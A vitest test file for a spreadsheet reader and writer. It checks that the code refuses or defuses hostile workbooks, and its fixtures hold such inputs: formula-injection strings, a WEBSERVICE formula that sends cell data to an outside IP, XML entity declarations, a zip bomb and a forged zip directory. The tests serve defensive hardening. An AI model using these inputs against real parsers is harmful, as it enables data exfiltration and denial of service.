import { Buffer } from 'node:buffer';
import { expect, test } from 'vitest';
import { makeWorkbook, workbookParts, zipOf } from '../../../../tests/helpers/make-workbook.ts';
import { readWorkbook, writeWorkbook } from './workbook.ts';

const text = (value: string, address = 'A1') =>
  `<c r="${address}" t="inlineStr"><is><t>${value}</t></is></c>`;
const row = (cells: string, n = 1) => `<row r="${n}">${cells}</row>`;

test('[FW10] what goes out comes back in, sheet by sheet', async () => {
  const bytes = await writeWorkbook([
    {
      name: 'Controls: [1]',
      columns: [{ header: 'Id', width: 8 }, { header: 'Title' }, { header: 'When' }],
      rows: [
        ['A.1', 'Zugänge <&> "prüfen"', new Date('2026-03-01T00:00:00Z')],
        ['3.10', 'two\nlines', null],
        [7, true, new Date('2026-03-01T12:30:00Z')],
      ],
    },
    { name: 'controls: [1]', columns: [{ header: 'Empty' }], rows: [] },
  ]);
  expect(await readWorkbook(bytes)).toEqual([
    {
      name: 'Controls   1',
      rows: [
        ['Id', 'Title', 'When'],
        ['A.1', 'Zugänge <&> "prüfen"', '2026-03-01'],
        ['3.10', 'two\nlines', ''],
        ['7', 'true', '2026-03-01T12:30:00.000Z'],
      ],
    },
    { name: 'controls   1 2', rows: [['Empty']] },
  ]);
});

test('[FW10] text that begins like a formula is stored as text, control characters do not break the file', async () => {
  const hostile = ['=1+1', '+cmd', '-2', '@SUM(A1)', 'a\u0000b\u001bc', 'd\ud800'];
  const bytes = await writeWorkbook([
    { name: 'S', columns: [{ header: '=HEADER()' }], rows: hostile.map((cell) => [cell]) },
  ]);
  const xml = await partsAsText(bytes);
  expect(xml).not.toMatch(/<f[ >]/);
  const [sheet] = await readWorkbook(bytes);
  expect(sheet?.rows.flat()).toEqual(['=HEADER()', '=1+1', '+cmd', '-2', '@SUM(A1)', 'abc', 'd']);
});

test('[FW11] a formula is read as its last value, links to other workbooks and macros are not touched', async () => {
  const bytes = await makeWorkbook(
    row(
      `<c r="A1" t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;B1)</f><v>seen</v></c>` +
        `<c r="B1" t="str"><f>[1]Sheet1!A1</f></c>${text('x', 'C1')}`,
    ),
    {
      'xl/externalLinks/externalLink1.xml': '<externalLink/>',
      'xl/vbaProject.bin': 'MZ',
      'xl/connections.xml': '<connections><connection url="http://192.0.2.1/"/></connections>',
    },
  );
  expect(await readWorkbook(bytes)).toEqual([{ name: 'Data', rows: [['seen', '', 'x']] }]);
});

test.each([
  ['a document type', '<!DOCTYPE x [<!ENTITY a "b">]>'],
  ['an entity', '<!entity a "b">'],
])('[FW11] %s in any part is refused', async (_what, declaration) => {
  const bytes = await makeWorkbook(row(text('x')), {
    'docProps/core.xml': `<?xml version="1.0"?>${declaration}<x/>`,
  });
  await expect(readWorkbook(bytes)).rejects.toMatchObject({
    code: 'bad-input',
    message: expect.stringContaining('docProps/core.xml'),
  });
});

test('[FW11] a part that is not UTF-8 cannot hide a document type', async () => {
  const hidden = Buffer.from('<?xml version="1.0"?><!DOCTYPE x><x/>', 'utf16le');
  const bytes = await zipOf({ ...workbookParts(''), 'xl/styles.xml': hidden });
  await expect(readWorkbook(bytes)).rejects.toMatchObject({ code: 'bad-input' });
});

test('[FW11] a workbook that inflates beyond the limit is refused, whatever it declares', async () => {
  const bomb = await makeWorkbook(row(text('0'.repeat(3_000_000))));
  expect(bomb.length).toBeLessThan(20_000);
  const limits = { maxInflatedBytes: 1_000_000 };
  await expect(readWorkbook(bomb, limits)).rejects.toMatchObject({ code: 'too-large' });

  // The directory says 10 bytes; inflating says otherwise.
  const lying = Buffer.from(bomb);
  for (const { sizeAt, name } of directoryOf(lying)) {
    if (name === 'xl/worksheets/sheet1.xml') lying.writeUInt32LE(10, sizeAt);
  }
  await expect(readWorkbook(lying, limits)).rejects.toMatchObject({ name: 'AppError' });
});

test('[FW11] a cell at the far end of the sheet does not make a table of that size', async () => {
  for (const cells of [
    row(text('x', 'XFD1')),
    `<row r="1048576">${text('x', 'A1048576')}</row>`,
    `<row r="1"><c note=">" r="XFD1048576"><v>1</v></c></row>`,
    `<row r="&#49;048576">${text('x', 'A1')}</row>`,
    row('<c/>'.repeat(101)),
    '<row/>'.repeat(50_001),
  ]) {
    await expect(readWorkbook(await makeWorkbook(cells))).rejects.toMatchObject({
      code: 'too-large',
    });
  }
});

test('[FW11] too many parts, what is no workbook, and what is encrypted are said to be so', async () => {
  const many = Object.fromEntries(Array.from({ length: 600 }, (_, n) => [`x/${n}.bin`, '']));
  await expect(readWorkbook(await makeWorkbook('', many))).rejects.toMatchObject({
    code: 'too-large',
  });
  await expect(readWorkbook(Buffer.from('id,title\n'))).rejects.toThrow('not an .xlsx workbook');
  await expect(readWorkbook(await zipOf({ 'a.txt': 'a' }))).rejects.toThrow(
    'not an .xlsx workbook',
  );
  await expect(readWorkbook(await zipOf({ 'xl/workbook.xml': '<a' }))).rejects.toMatchObject({
    code: 'bad-input',
  });
  await expect(readWorkbook(Buffer.from('d0cf11e0a1b11ae1', 'hex'))).rejects.toThrow('encrypted');
});

async function partsAsText(bytes: Uint8Array): Promise<string> {
  const { unzipSync } = (await import('node:module')).createRequire(import.meta.url)('fflate') as {
    unzipSync: (data: Uint8Array) => Record<string, Uint8Array>;
  };
  return Object.values(unzipSync(bytes))
    .map((part) => Buffer.from(part).toString())
    .join('\n');
}

/** Where the central directory of an archive says how large each entry is (APPNOTE 4.3.12). */
function directoryOf(zip: Buffer): { name: string; sizeAt: number }[] {
  const entries: { name: string; sizeAt: number }[] = [];
  for (
    let at = zip.indexOf('PK\u0001\u0002');
    at >= 0;
    at = zip.indexOf('PK\u0001\u0002', at + 4)
  ) {
    const length = zip.readUInt16LE(at + 28);
    entries.push({ name: zip.toString('utf8', at + 46, at + 46 + length), sizeAt: at + 24 });
  }
  return entries;
}
